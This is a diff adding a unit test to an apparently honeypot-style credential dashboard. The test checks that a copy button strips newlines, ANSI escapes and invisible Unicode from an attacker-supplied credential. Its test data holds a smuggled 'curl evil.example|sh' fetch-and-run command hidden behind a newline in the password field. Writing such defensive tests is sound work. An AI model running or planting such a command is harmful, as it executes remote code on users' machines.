@@ -124,6 +124,24 @@ public sealed class BountyPageTests : ComponentTestContext
     }
 
     [Fact]
+    public async Task The_copy_button_strips_control_and_invisible_characters_the_attacker_put_in_a_credential()
+    {
+        // Captured as typed at a decky's prompt: a newline that would run a command when pasted into a
+        // shell, an ANSI escape, a right-to-left override and a zero-width space.
+        await AddAsync(new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 11, 0, 0), Decky = "ssh-1", Service = "ssh", AttackerIp = "203.0.113.66",
+            BountyType = "credential", Payload = """{"username":"root\r\n","password":"pw\u001b[2J;\ncurl evil.example|sh\u202E\u200B"}""", DedupKey = "k-hostile" });
+        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
+        var cut = Render<BountyVault>();
+        cut.WaitForAssertion(() => Assert.Equal(3, cut.FindAll("[data-testid=bounty-row]").Count));
+
+        var hostile = cut.FindAll("[data-testid=bounty-row]").Single(r => r.TextContent.Contains("203.0.113.66", StringComparison.Ordinal));
+        hostile.QuerySelector("[data-testid=copy-credential]")!.Click();
+
+        var call = Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText");
+        Assert.Equal("root:pw[2J;curl evil.example|sh", call.Arguments[0]);
+    }
+
+    [Fact]
     public async Task New_bounties_appear_live()
     {
         SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
